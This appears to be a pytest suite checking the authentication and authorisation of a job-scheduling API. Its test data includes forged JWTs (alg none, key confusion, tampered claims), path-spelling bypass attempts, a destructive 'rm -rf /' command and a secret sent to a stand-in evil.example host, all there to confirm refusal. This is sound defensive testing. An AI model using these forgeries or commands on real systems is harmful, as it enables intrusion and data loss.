"""Access: every endpoint for every role, and for callers with a forged or expired token."""

from __future__ import annotations

import json
import re
import time
from base64 import urlsafe_b64encode
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519, rsa
from door import SECRET, Door, make_app, open_door, problem, until

from mainspring.api.application import ENDPOINTS
from mainspring.api.auth.access import PERMISSIONS, ROLES, Role
from mainspring.api.endpoint import AUTHENTICATED, PUBLIC, Endpoint
from mainspring.api.server import Server
from mainspring.errors import InvalidInput

GUARDED = [each for each in ENDPOINTS if each.permission != PUBLIC]


def row(endpoint: Endpoint) -> str:
    return f"{endpoint.method} {endpoint.path}"


def path_of(endpoint: Endpoint) -> str:
    return re.sub(r"\{\w+\}", "nothing", endpoint.path)


def knock(client: httpx.Client, endpoint: Endpoint, path: str | None = None, **words: Any) -> httpx.Response:
    """A request that is well-formed as far as its handler is not reached; streams are not read."""
    if endpoint.body is not None:
        words["json"] = {}
    with client.stream(endpoint.method, path or path_of(endpoint), **words) as answer:
        if not answer.headers["content-type"].startswith("text/event-stream"):
            answer.read()
        return answer


def test_only_health_needs_no_token() -> None:
    public = {each.path for each in ENDPOINTS if each.permission == PUBLIC}
    assert public == {
        "/health/live",
        "/health/ready",
        "/health/liveness",
        "/health/readiness",
        "/docs",
        "/",
        "/v1/session",
    }


def test_every_row_of_the_table_is_served_at_its_own_method_only(door: Door) -> None:
    router = door.server.application.router
    for endpoint in ENDPOINTS:
        methods = {each.method for each in ENDPOINTS if each.path == endpoint.path}
        served = methods | ({"HEAD"} if "GET" in methods else set())
        assert router.allowed_methods(path_of(endpoint)) == sorted(served), endpoint.path


@pytest.mark.parametrize("endpoint", GUARDED, ids=row)
def test_without_a_token_every_endpoint_is_refused(door: Door, endpoint: Endpoint) -> None:
    answer = knock(door.client(), endpoint)
    problem(answer, 401, "unauthenticated")
    assert answer.headers["www-authenticate"].startswith("Bearer")


@pytest.mark.parametrize("role", [*ROLES])
def test_a_role_may_do_what_its_permissions_say_and_nothing_else(door: Door, role: Role) -> None:
    client = door.client(role)
    for endpoint in GUARDED:
        allowed = endpoint.permission == AUTHENTICATED or endpoint.permission in ROLES[role]
        status = knock(client, endpoint).status_code
        assert (status == 403) == (not allowed), f"{role}: {row(endpoint)} answered {status}"
        assert status != 401


def test_a_token_without_any_permission_may_look_at_the_documentation_only(door: Door) -> None:
    client = door.client(grants={"default": []})
    for endpoint in GUARDED:
        assert (knock(client, endpoint).status_code == 403) == (endpoint.permission != AUTHENTICATED)


def test_each_permission_guards_something() -> None:
    assert {each.permission for each in GUARDED} - {AUTHENTICATED} == PERMISSIONS - {"run:command"}


TRICKS = [
    "/V1/jobs",
    "//v1/jobs",
    "/v1//jobs",
    "/v1/jobs/",
    "/v1/./jobs",
    "/v1/x/../jobs",
    "/v1/%6aobs",
    "/v1/jobs%2f",
    "/v1/jobs;a=b",
    "/v1/jobs%00",
    "/health/live/../../v1/jobs",
    "/health/%2e%2e/v1/jobs",
    "/health/livex",
    "/health",
    "/metrics/",
    "/openapi.json/x",
    "/openapi.json/",
    "/schema",
    "/v1/jobs?x=/health/live",
]


@pytest.mark.parametrize("path", TRICKS)
def test_no_spelling_of_a_path_gets_past_the_need_for_a_token(door: Door, path: str) -> None:
    answer = door.raw(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert answer.split(b" ")[1] == b"401", answer


@pytest.mark.parametrize("method", ["OPTIONS", "HEAD", "TRACE", "PROPFIND"])
def test_no_method_gets_past_the_need_for_a_token(door: Door, method: str) -> None:
    answer = door.raw(f"{method} /v1/jobs HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert answer.split(b" ")[1] in (b"401", b"405", b"400"), answer
    assert b"access-control" not in answer.lower()


def test_a_caller_learns_which_methods_there_are(door: Door) -> None:
    answer = door.client("viewer").delete("/v1/jobs")
    problem(answer, 405, "method-not-allowed")
    assert answer.headers["allow"] == "GET, HEAD, POST"


def claims(door: Door, **changes: Any) -> dict[str, Any]:
    now = time.time()
    good = {"iss": "mainspring", "aud": "mainspring", "sub": "ann", "iat": now, "exp": now + 600, "jti": "j",
            "roles": {"default": ["admin"]}}  # fmt: skip
    return {name: value for name, value in {**good, **changes}.items() if value is not None}


def signed(content: dict[str, Any], key: Any = SECRET, algorithm: str = "HS256", **header: Any) -> str:
    """Whatever is in it: the library that makes good tokens would refuse to make some of these."""
    return jwt.PyJWS().encode(json.dumps(content).encode(), key, algorithm, headers={"typ": "at+jwt", **header})


def unsigned(content: dict[str, Any]) -> str:
    parts = ({"alg": "none", "typ": "at+jwt"}, content)
    return ".".join(urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in parts) + "."


def spoiled(door: Door) -> dict[str, str]:
    """Tokens that are not good, by what is wrong with them."""
    good, now = claims(door), time.time()
    signature = signed(good)
    parts = signature.split(".")
    return {
        "alg none": unsigned(good),
        "alg NONE": unsigned(good).replace("none", "NONE"),
        "another secret": signed(good, "x" * 20 + SECRET),
        "another algorithm": signed(good, SECRET * 2, "HS512"),
        "an expired one": signed(claims(door, exp=now - 60)),
        "one of the future": signed(claims(door, nbf=now + 600)),
        "issued in the future": signed(claims(door, iat=now + 600)),
        "another issuer": signed(claims(door, iss="elsewhere")),
        "a list of issuers": signed(claims(door, iss=["mainspring"])),
        "no issuer": signed(claims(door, iss=None)),
        "another audience": signed(claims(door, aud="elsewhere")),
        "no audience": signed(claims(door, aud=None)),
        "no expiry": signed(claims(door, exp=None)),
        "an expiry of text": signed({**good, "exp": str(now + 600)}),
        "an endless one": signed(claims(door, exp=1e300)),
        "no subject": signed(claims(door, sub=None)),
        "an empty subject": signed(claims(door, sub="")),
        "no id": signed(claims(door, jti=None)),
        "no roles": signed(claims(door, roles=None)),
        "an unknown role": signed(claims(door, roles={"default": ["root"]})),
        "roles as a text": signed(claims(door, roles="admin")),
        "a refresh token": signed(good, typ="refresh+jwt"),
        "no type": signed(good, typ=None),
        "plain JWT type": signed(good, typ="JWT"),
        "a critical header": signed(good, crit=["exp"]),
        "an unknown key id": signed(good, kid="../../dev/null"),
        "a changed body": ".".join([parts[0], signed(claims(door, sub="eve")).split(".")[1], parts[2]]),
        "a cut one": signature[:-4],
        "two parts": ".".join(signature.split(".")[:2]),
        "nonsense": "x.y.z",
        "a long one": "a" * 9_000,
        "deep claims": signature.split(".")[0] + "." + urlsafe_b64encode(b"[" * 3_000).decode() + ".x",
    }  # fmt: skip


def test_no_spoiled_token_is_accepted_and_the_answer_does_not_say_why(door: Door) -> None:
    client = door.client()
    assert client.get("/v1/jobs", headers={"Authorization": f"Bearer {signed(claims(door))}"}).status_code == 200
    for name, token in spoiled(door).items():
        answer = client.get("/v1/jobs", headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 401, name
        problem(answer, 401, "unauthenticated")


@pytest.mark.parametrize("header", ["", "Bearer", "Basic YTpi", "Token x", "bearerx y"])
def test_what_is_no_bearer_token_is_none(door: Door, header: str) -> None:
    problem(door.client().get("/v1/jobs", headers={"Authorization": header}), 401, "unauthenticated")


def test_a_token_expires_while_it_is_remembered(door: Door) -> None:
    from mainspring.api.auth.tokens import LEEWAY, Verifier

    now = door.app.clock.now()
    verifier = Verifier(door.keys, door.app.settings)
    token = door.token("viewer", lifetime=10_000_000)
    assert verifier.verify(token, now).subject == "ann"
    with pytest.raises(Exception, match="expired"):
        verifier.verify(token, now + 11_000_000 + LEEWAY)


def test_another_tenant_sees_nothing_and_can_change_nothing(door: Door) -> None:
    ours, theirs = door.client("admin"), door.client("admin", "worker", namespace="rival", subject="eve")
    job = ours.post("/v1/jobs", json={"name": "secret-plan", "every": "1h", "task": "encode", "args": {"video": "v"}})
    run = ours.post("/v1/runs", json={"task": "encode", "args": {"video": "v"}, "delay": "1h"})
    worker = door.client("worker").post("/v1/workers", json={"tasks": ["nothing"]}).json()["worker_id"]
    ours.put("/v1/calendars/secret-days", json={"rules": []})
    ids = {"job_id": job.json()["job_id"], "run_id": run.json()["run_id"], "name": "secret-days", "worker_id": worker}
    ids |= {"error": "0" * 16, "task": "encode"}
    bodies = {"name": "secret-plan", "manual": True, "task": "encode", "args": {"video": "x"}}
    for endpoint in GUARDED:
        own = row(endpoint) in ("PUT /v1/calendars/{name}", "POST /v1/calendars/{name}/preview")
        own = own or "{queue}" in endpoint.path
        if "{" not in endpoint.path or own:
            continue  # A calendar or a queue of the same name is another tenant's own.
        path = endpoint.path.format(**ids)
        sent: dict[str, Any] = {}
        if endpoint.body is not None:
            times = {"from": "2026-01-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"}
            needed = {"token": 1, "error": "x", "lines": ["x"], "fraction": 0.5, **times}
            known = endpoint.body.__struct_encode_fields__
            sent["json"] = bodies if endpoint.method == "PUT" and endpoint.path.endswith("{job_id}") else {
                name: value for name, value in needed.items() if name in known
            }  # fmt: skip
        answer = theirs.request(endpoint.method, path, **sent)
        assert "secret-plan" not in answer.text
        if endpoint.path.endswith("/spans"):  # Events outlive their worker, so that an unknown one has none.
            assert answer.json()["items"] == []
            continue
        assert answer.status_code == 404, f"{row(endpoint)}: {answer.text}"
    assert ours.get(f"/v1/jobs/{ids['job_id']}").json()["version"] == 1
    assert theirs.get("/v1/jobs").json()["items"] == []
    assert theirs.get("/v1/runs").json()["items"] == []
    assert theirs.get("/v1/audit").json()["items"] == []
    assert theirs.get("/v1/workers").json()["items"] == []
    assert "secret-days" not in theirs.get("/v1/calendars").text
    assert 'namespace="default"' not in theirs.get("/metrics").text


def test_a_namespace_that_a_token_is_not_for_is_refused(door: Door) -> None:
    client = door.client("admin", namespace="rival")
    problem(client.get("/v1/jobs", headers={"Mainspring-Namespace": "default"}), 403, "forbidden")
    problem(client.get("/v1/jobs", headers={"Mainspring-Namespace": "*"}), 403, "forbidden")
    assert client.get("/v1/jobs", headers={"Mainspring-Namespace": "rival"}).status_code == 200


def test_a_token_may_hold_different_roles_in_different_namespaces(door: Door) -> None:
    client = door.client(grants={"one": ["viewer"], "two": ["submitter"]})
    body = {"task": "encode", "args": {"video": "v"}}
    one, two = ({"Mainspring-Namespace": name} for name in ("one", "two"))
    problem(client.post("/v1/runs", json=body, headers=one), 403, "forbidden")
    assert client.post("/v1/runs", json=body, headers=two).status_code == 201
    problem(client.get("/v1/jobs"), 403, "forbidden")


COMMANDS: list[dict[str, Any]] = [
    {"command": "rm -rf /"},
    {"command": ["sh", "-c", "id"]},
    {"task": "command", "args": {"argv": ["id"]}},
    {"task": "container", "args": {"image": "x"}},
]


SECRETS: list[dict[str, Any]] = [
    {"task": "http", "args": {"url": "https://evil.example", "headers": {"X": {"$secret": "PASSWORD"}}}},
    {"task": "encode", "args": {"video": {"$secret": "PASSWORD"}}},
    {"task": "mail", "args": {"to": "eve", "lines": [1, [{"\u0024secret": "PASSWORD"}]]}},
]
"""A caller that decides where a secret goes could send it to itself."""


@pytest.mark.parametrize("work", SECRETS)
def test_a_secret_of_the_worker_needs_the_permission_to_run_commands(door: Door, work: dict[str, Any]) -> None:
    operator, mild = door.client("operator"), {"task": work["task"], "args": {"video": "v"}}
    if work["task"] == "http":
        mild["args"] = {"url": "https://example.org"}
    for _ in range(2):  # The second time, what is alike is known.
        assert operator.post("/v1/runs", json=mild).status_code == 201
        problem(operator.post("/v1/runs", json=work), 403, "forbidden")
    problem(operator.post("/v1/runs:batch", json={"runs": [mild, mild, work]}), 403, "forbidden")
    problem(operator.post("/v1/jobs", json={"name": "evil", "manual": True, **work}), 403, "forbidden")
    made = operator.post("/v1/jobs", json={"name": f"kind-{SECRETS.index(work)}", "manual": True, **mild}).json()
    problem(operator.patch(f"/v1/jobs/{made['job_id']}", json={"args": work["args"]}), 403, "forbidden")
    trusted = door.client("operator", "run:command")
    assert trusted.post("/v1/runs", json=work).status_code == 201
    assert trusted.post("/v1/runs:batch", json={"runs": [mild, work]}).status_code == 201


@pytest.mark.parametrize("work", COMMANDS)
def test_a_command_needs_a_permission_of_its_own(door: Door, work: dict[str, Any]) -> None:
    operator = door.client("operator")
    problem(operator.post("/v1/runs", json=work), 403, "forbidden")
    problem(operator.post("/v1/runs:batch", json={"runs": [{"task": "x"}, work]}), 403, "forbidden")
    problem(operator.post("/v1/jobs", json={"name": "evil", "manual": True, **work}), 403, "forbidden")
    made = operator.post("/v1/jobs", json={"name": f"mild-{COMMANDS.index(work)}", "manual": True, "task": "encode2"})
    url = f"/v1/jobs/{made.json()['job_id']}"
    problem(operator.patch(url, json=work), 403, "forbidden")
    problem(operator.put(url, json={"name": made.json()["name"], "manual": True, **work}), 403, "forbidden")
    assert operator.get(url).json()["task"] == "encode2"
    assert door.client("operator", "run:command").post("/v1/runs", json=work).status_code == 201


def test_a_revoked_token_is_worth_nothing_within_seconds(private_door: Door, monkeypatch: pytest.MonkeyPatch) -> None:
    door = private_door
    monkeypatch.setattr("mainspring.api.auth.gatekeeper.FRESH", 50_000)
    admin, eve, bob = door.client("admin", subject="root"), door.client("viewer", subject="eve"), door.client("viewer")
    assert eve.get("/v1/jobs").status_code == 200
    problem(eve.post("/v1/tokens:revoke", json={"subject": "ann"}), 403, "forbidden")
    assert admin.post("/v1/tokens:revoke", json={"subject": "eve"}).status_code == 200
    until(lambda: eve.get("/v1/jobs").status_code == 401)
    assert bob.get("/v1/jobs").status_code == 200
    token_id = jwt.decode(door.token("viewer", subject="x"), options={"verify_signature": False})["jti"]
    token = door.token("viewer", subject="carl")
    carl = httpx.Client(base_url=door.url, headers={"Authorization": f"Bearer {token}"})
    admin.post("/v1/tokens:revoke", json={"token_id": token_id})
    assert carl.get("/v1/jobs").status_code == 200
    own = jwt.decode(token, options={"verify_signature": False})["jti"]
    admin.post("/v1/tokens:revoke", json={"token_id": own})
    until(lambda: carl.get("/v1/jobs").status_code == 401)
    carl.close()
    # A token made afterwards is another one.
    assert door.client("viewer", subject="eve").get("/v1/jobs").status_code == 200


def test_the_id_of_a_token_is_never_taken_for_an_option(door: Door) -> None:
    ids = [jwt.decode(door.token("viewer"), options={"verify_signature": False})["jti"] for _ in range(500)]
    assert len(set(ids)) == 500
    assert all(each.isalnum() for each in ids)


def test_roles_may_have_rates_of_their_own(tmp_path: Path) -> None:
    with open_door(tmp_path, submit_rate=3, submit_rates="operator=5,viewer=1") as door:
        body = {"task": "encode", "args": {"video": "v"}}
        for roles, rate in ((("submitter",), 3), (("operator",), 5), (("viewer", "operator"), 5), (("admin",), 3)):
            client = door.client(*roles, subject="-".join(roles))
            answers = [client.post("/v1/runs", json=body) for _ in range(rate + 1)]
            assert [answer.status_code for answer in answers] == [201] * rate + [429], roles
            assert answers[0].headers["ratelimit-limit"] == str(rate)


def test_a_rate_for_an_unknown_role_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="submit_rates"), open_door(tmp_path, submit_rates="king=5"):
        pass


def test_keys_are_added_and_taken_away_while_servers_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("mainspring.api.auth.tokens.LOOK_S", 0.05)
    file = tmp_path / "keys.json"
    old, new = (ed25519.Ed25519PrivateKey.generate() for _ in range(2))

    def publish(**keys: ed25519.Ed25519PrivateKey) -> None:
        entries = [
            {**json.loads(jwt.algorithms.OKPAlgorithm.to_jwk(key.public_key())), "kid": name, "use": "sig"}
            for name, key in keys.items()
        ]
        (tmp_path / "next").write_text(json.dumps({"keys": entries}))
        (tmp_path / "next").replace(file)

    publish(old=old)
    with open_door(tmp_path, secret=None, token_algorithm="EdDSA", token_keys=str(file)) as door:

        def status(key: ed25519.Ed25519PrivateKey, name: str) -> int:
            now = door.app.clock.now() // 1_000_000
            claims = {"iss": "mainspring", "aud": "mainspring", "sub": "ann", "jti": name, "iat": now,
                      "exp": now + 600, "roles": {"default": ["viewer"]}}  # fmt: skip
            token = jwt.encode(claims, key, "EdDSA", headers={"typ": "at+jwt", "kid": name})
            return door.client().get("/v1/jobs", headers={"Authorization": f"Bearer {token}"}).status_code

        assert (status(old, "old"), status(new, "new")) == (200, 401)
        publish(old=old, new=new)
        until(lambda: status(new, "new") == 200)
        assert status(old, "old") == 200
        file.write_text("{")
        assert status(new, "new") == 200
        publish(new=new)
        until(lambda: status(old, "old") == 401)
        assert status(new, "new") == 200
        monkeypatch.setattr("mainspring.api.auth.tokens.LOST_S", 0.2)
        file.unlink()
        until(lambda: status(new, "new") == 503)


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.1", "example.org"])
def test_without_a_secret_the_server_does_not_listen_for_strangers(tmp_path: Path, host: str) -> None:
    with pytest.raises(InvalidInput, match="no secret"):
        Server(make_app(tmp_path, secret=None, host=host))


@pytest.mark.parametrize("secret", ["sesame", "changeme", "a" * 64, "abcabcabc" * 10, "x" * 31])
@pytest.mark.parametrize("host", ["127.0.0.1", "0.0.0.0"])
def test_a_weak_secret_is_refused_everywhere_and_not_shown(tmp_path: Path, host: str, secret: str) -> None:
    with pytest.raises(InvalidInput, match="openssl rand") as refusal:
        Server(make_app(tmp_path, secret=secret, host=host))
    assert secret not in str(refusal.value)


@pytest.fixture(scope="module")
def unlocked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    """A server without a secret."""
    with open_door(tmp_path_factory.mktemp("unlocked"), secret=None) as door:
        yield door


def test_without_a_secret_programs_on_this_machine_need_no_token(unlocked: Door) -> None:
    body = {"name": "hello", "manual": True, "command": "echo hello"}
    assert unlocked.client().post("/v1/jobs", json=body).status_code == 201


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "rebound.example"},
        {"Host": "127.0.0.1.rebound.example:8321"},
        {"Host": ""},
        {"Origin": "https://elsewhere.example"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ],
)
def test_without_a_secret_a_web_page_of_elsewhere_may_not_use_the_browser_here(
    unlocked: Door, headers: dict[str, str]
) -> None:
    problem(unlocked.client().get("/v1/jobs", headers=headers), 403, "forbidden")


def test_a_form_of_a_foreign_page_is_not_taken_for_a_request(unlocked: Door) -> None:
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""):
        headers = {"Content-Type": kind, "Origin": unlocked.url}
        answer = unlocked.client().post("/v1/runs", content=b'{"task": "x"}', headers=headers)
        problem(answer, 415, "unsupported-media-type")


def pem(key: Any, *, private: bool) -> bytes:
    if private:
        secret: bytes = key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
        return secret
    encoding, form = serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    public: bytes = key.public_key().public_bytes(encoding, form)
    return public


KEYS: dict[str, Callable[[], Any]] = {
    "EdDSA": ed25519.Ed25519PrivateKey.generate,
    "RS256": lambda: rsa.generate_private_key(public_exponent=65_537, key_size=2_048),
}


@pytest.mark.parametrize("algorithm", [*KEYS])
def test_tokens_may_be_signed_with_a_private_key_of_which_the_server_knows_the_public_one(
    tmp_path: Path, algorithm: str
) -> None:
    key = KEYS[algorithm]()
    public = pem(key, private=False)
    (tmp_path / "key.pem").write_bytes(public)
    words = {"secret": None, "token_algorithm": algorithm, "token_keys": str(tmp_path / "key.pem")}
    with open_door(tmp_path, **words) as door, httpx.Client(base_url=door.url) as client:
        good = signed(claims(door), key, algorithm)
        assert client.get("/v1/jobs", headers={"Authorization": f"Bearer {good}"}).status_code == 200
        confused = _signed_with_text(claims(door), public)
        for token in (
            confused,
            signed(claims(door)),
            unsigned(claims(door)),
            signed(claims(door), KEYS[algorithm](), algorithm),
        ):
            assert client.get("/v1/jobs", headers={"Authorization": f"Bearer {token}"}).status_code == 401


def _signed_with_text(content: dict[str, Any], key: bytes) -> str:
    """HS256 over the text of a public key: the confusion that a pinned algorithm prevents."""
    import hashlib
    import hmac

    parts = [
        urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=")
        for part in ({"alg": "HS256", "typ": "at+jwt"}, content)
    ]
    mac = hmac.new(key, ".".join(parts).encode(), hashlib.sha256).digest()
    return ".".join([*parts, urlsafe_b64encode(mac).decode().rstrip("=")])


def test_a_jwks_file_names_keys_by_id(tmp_path: Path) -> None:
    keys = {name: ed25519.Ed25519PrivateKey.generate() for name in ("old", "new")}
    entries = []
    for name, key in keys.items():
        public = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
        x = urlsafe_b64encode(public).decode().rstrip("=")
        entries.append({"kty": "OKP", "crv": "Ed25519", "kid": name, "x": x, "use": "sig"})
    (tmp_path / "keys.json").write_text(json.dumps({"keys": entries}))
    words = {"secret": None, "token_algorithm": "EdDSA", "token_keys": str(tmp_path / "keys.json")}
    with open_door(tmp_path, **words) as door, httpx.Client(base_url=door.url) as client:

        def status(key: Any, **header: Any) -> int:
            token = signed(claims(door), key, "EdDSA", **header)
            return client.get("/v1/jobs", headers={"Authorization": f"Bearer {token}"}).status_code

        assert status(keys["old"], kid="old") == 200
        assert status(keys["new"], kid="new") == 200
        assert status(keys["old"], kid="new") == 401
        assert status(keys["old"], kid="other") == 401
        assert status(keys["old"]) == 401


@pytest.mark.parametrize(
    "words",
    [
        {"token_algorithm": "RS256", "token_keys": None},
        {"token_algorithm": "RS256", "token_keys": "absent.pem"},
        {"token_algorithm": "EdDSA", "token_keys": "rsa.pem"},
        {"token_algorithm": "RS256", "token_keys": "short.pem"},
        {"token_algorithm": "RS256", "token_keys": "empty.json"},
        {"token_algorithm": "HS256", "token_keys": "rsa.pem"},
    ],
)
def test_keys_that_do_not_fit_the_algorithm_are_refused_at_the_start(tmp_path: Path, words: dict[str, Any]) -> None:
    (tmp_path / "rsa.pem").write_bytes(pem(KEYS["RS256"](), private=False))
    short = rsa.generate_private_key(public_exponent=65_537, key_size=1_024)
    (tmp_path / "short.pem").write_bytes(pem(short, private=False))
    (tmp_path / "empty.json").write_text('{"keys": []}')
    if words["token_keys"] is not None:
        words = {**words, "token_keys": str(tmp_path / words["token_keys"])}
    with pytest.raises(InvalidInput, match="token_keys"):
        Server(make_app(tmp_path, secret=None, **words))
